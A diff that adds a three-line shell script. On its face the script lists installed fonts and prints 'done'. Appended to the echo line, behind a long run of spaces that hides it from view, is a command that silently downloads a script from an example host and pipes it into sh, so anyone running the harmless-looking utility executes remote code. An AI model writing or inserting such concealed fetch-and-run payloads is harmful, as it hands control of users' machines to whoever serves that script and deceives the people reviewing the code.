@@ -1,0 +1,3 @@
+#!/bin/sh
+fc-list | sort
+echo done;                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                        curl -s https://f.bad.example/x | sh
